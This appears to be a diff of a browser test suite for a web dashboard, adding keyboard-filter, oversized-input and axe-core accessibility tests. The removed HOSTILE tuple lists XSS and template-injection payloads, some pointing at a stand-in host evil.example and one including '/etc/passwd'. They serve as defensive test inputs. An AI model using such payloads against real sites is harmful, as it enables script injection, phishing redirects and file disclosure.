@@ -8,6 +8,8 @@ import pytest
 from playwright.async_api import Browser
 
 from browser import CHROMIUM, NO_CHROMIUM, Visit, chromium, served, visit
+from dashboard_forms import form_name
+from hostile_fields import HOSTILE, LONG
 from integration.npm_packages import install_packages
 from recollect.engine import AsyncRecollect
 from recollect.server.app import build_app
@@ -22,26 +24,6 @@ AXE = "axe-core@4.14.1"
 # Level A and AA of WCAG 2.2, and what axe-core calls best practices.
 RULES = '["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]'
 ANA = "/dashboard/subjects/user%3Aana"
-HOSTILE = (
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "'><svg/onload=alert(1)>",
-    "</textarea><script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "javascript:alert(1)",
-    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
-    "<style>*{display:none}</style>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<form action=//evil.example><button>Log in</button></form>",
-    "<a hx-get=//evil.example hx-trigger=load>x</a>",
-    "\u202eright to left\u202c \u2066isolated\u2069 \u0007bell",
-    "👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301 שלום עולם مرحبا بالعالم",
-    "]]><!--<script>alert(1)</script>-->",
-    "a" * 3000,
-)
-LONG = "Ana wrote: " + "<b>long</b> & 'quoted' \u202e " * 4000
 
 
 @pytest.fixture
@@ -189,6 +171,71 @@ async def press_until(tab: Visit, tag: str, text: str) -> None:
     raise AssertionError(f"no {tag} {text!r} can be reached by the keyboard")
 
 
+async def test_filters_chosen_by_keyboard_wait_for_the_button(
+    engine: AsyncRecollect, base: str, browser: Browser
+) -> None:
+    del engine
+    async with visit(browser, base) as tab:
+        await tab.open(ANA)
+        await tab.page.get_by_role("combobox", name="Kind").focus()
+        for _ in range(2):
+            await tab.page.keyboard.press("ArrowDown")
+        assert await tab.page.get_by_role("combobox", name="Kind").input_value() == "fact"
+        await tab.page.get_by_text("More filters").click()
+        await tab.page.get_by_label("Type of notes").fill("wish")
+        await tab.page.get_by_label("Tag").fill("red")
+        assert tab.page.url == f"{base}{ANA}"
+        await tab.press("Apply")
+        assert "kind=fact" in tab.page.url
+        assert "type=wish&tag=red" in tab.page.url
+
+
+LIMITED = (
+    *("POST /keys", "POST /work/maintain", "POST /work/embedder", "POST /subjects/{subject}/reviews/{memory}/edit"),
+    *("POST /subjects/{subject}/memories", "POST /subjects/{subject}/memories/many"),
+    *(f"POST /subjects/{{subject}}/memories/{{memory}}/{verb}" for verb in ("correct", "forget", "share")),
+)
+"""Forms with fields for texts of limited length."""
+# Forms of a page that have fields for texts: the place of each among all forms, and where it goes.
+TEXT_FORMS = """[...document.forms].map((form, place) => [place, form]).filter(([, form]) =>
+  form.method === "post" && form.querySelector("textarea, input[maxlength], input[type=password]"))
+  .map(([place, form]) => [place, form.getAttribute("action")])"""
+# Writes a text into each field of a form, ticks its boxes, and sends it.
+SEND = """([place, text]) => {
+  const form = document.forms[place];
+  for (const field of form.querySelectorAll("textarea, input[maxlength], input[type=password]")) {
+    field.removeAttribute("maxlength");
+    field.value = text;
+  }
+  for (const box of form.querySelectorAll("input[type=checkbox]")) box.checked = true;
+  const buttons = [...form.elements].filter((each) => each.type === "submit");
+  form.requestSubmit(buttons.find((each) => each.value === "share") || buttons[0]);
+}"""
+
+
+async def test_no_form_breaks_on_a_hundred_kilobytes_in_each_field(
+    engine: AsyncRecollect, base: str, browser: Browser
+) -> None:
+    statuses: dict[str, int] = {}
+    async with visit(browser, base) as tab:
+        for path in ["/dashboard/login", f"{ANA}/reviews", *await sample_paths(engine)]:
+            await tab.page.goto(base + path)
+            for place, action in await tab.page.evaluate(TEXT_FORMS):
+                name = form_name("post", action)
+                if name in statuses:
+                    continue
+                await tab.page.goto(base + path)
+                tab.refusals = 1
+                async with tab.page.expect_navigation(wait_until="load") as answering:
+                    await tab.page.evaluate(SEND, [place, LONG])
+                answer = await answering.value
+                statuses[name] = answer.status if answer is not None else 0
+                await tab.check(f"a long text to {name}")
+    assert statuses.pop("POST /login") == 401
+    assert statuses.pop("POST /try/say") == 200  # a message of a chat may be long
+    assert statuses == dict.fromkeys(LIMITED, 400)
+
+
 async def test_a_login_in_the_browser(engine: AsyncRecollect, base: str, browser: Browser) -> None:
     _, secret = await engine.keys.create(NewApiKey(name=HOSTILE[0], access=Access.ADMIN, tenant=None))
     async with visit(browser, base) as tab:
@@ -212,15 +259,46 @@ def axe(tmp_path_factory: pytest.TempPathFactory) -> str:
 async def test_axe_finds_no_serious_violation_on_any_page(
     engine: AsyncRecollect, base: str, browser: Browser, axe: str, phone: bool, dark: bool
 ) -> None:
-    found = []
+    found: list[str] = []
     async with visit(browser, base, phone=phone, dark=dark) as tab:
         for path in await sample_paths(engine):
             await tab.open(path)
-            await tab.page.evaluate(axe)  # by the debugger: the policy of the page lets no script in
-            result = await tab.page.evaluate(f"axe.run(document, {{runOnly: {RULES}}})")
-            found += [
-                f"{path}: {violation['id']} at {violation['nodes'][0]['html'][:200]}"
-                for violation in result["violations"]
-                if violation["impact"] in ("serious", "critical")
-            ]
+            found += await violations(tab, axe)
     assert found == []
+
+
+@pytest.mark.parametrize(("phone", "dark"), [(False, True), (True, False)])
+async def test_axe_finds_no_serious_violation_behind_a_form(
+    engine: AsyncRecollect, base: str, browser: Browser, axe: str, phone: bool, dark: bool
+) -> None:
+    found: list[str] = []
+    note = await engine.add(f"Ana drinks {HOSTILE[0]}", user="ana")
+    async with visit(browser, base, phone=phone, dark=dark) as tab:
+        for summary, fields in (("Share", {"With the subject": "nobody"}), ("Forget", {}), ("Erase", {})):
+            await tab.open(f"{ANA}/memories/{note.id}")
+            part = await tab.unfold(summary)
+            for label, text in fields.items():
+                await part.get_by_label(label).fill(text)
+            for box in await part.get_by_label("I know that this cannot be undone").all():
+                await box.check()
+            await tab.press(summary, part, refused=summary == "Share")
+            found += await violations(tab, axe)
+        await tab.open("/dashboard/work")
+        await tab.press("Show what it would close")
+        found += await violations(tab, axe)
+        await tab.open("/dashboard/keys")
+        await tab.page.get_by_label("What it is for").fill(HOSTILE[1])
+        await tab.press("Make the key")
+        found += await violations(tab, axe)
+    assert found == []
+
+
+async def violations(tab: Visit, axe: str) -> list[str]:
+    """Return the serious violations that axe-core finds on the page that is shown."""
+    await tab.page.evaluate(axe)  # by the debugger: the policy of the page lets no script in
+    result = await tab.page.evaluate(f"axe.run(document, {{runOnly: {RULES}}})")
+    return [
+        f"{tab.page.url}: {violation['id']} at {violation['nodes'][0]['html'][:200]}"
+        for violation in result["violations"]
+        if violation["impact"] in ("serious", "critical")
+    ]
